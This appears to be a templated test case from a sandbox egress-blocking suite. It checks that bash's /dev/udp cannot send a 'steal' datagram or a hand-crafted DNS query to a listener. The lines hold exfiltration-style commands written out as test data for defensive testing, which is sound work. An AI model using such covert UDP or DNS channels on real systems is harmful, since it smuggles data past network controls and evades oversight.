# route: bash's /dev/udp: a datagram (and a DNS-shaped one) to the outside listener
# expect: *made no request to the mock*
echo "steal" > /dev/udp/127.0.0.1/{{ udp_port }}
printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03api\x07example\x03com\x00\x00\x01\x00\x01' > /dev/udp/127.0.0.1/{{ udp_port }}
getent hosts api.example.com || echo "no DNS"
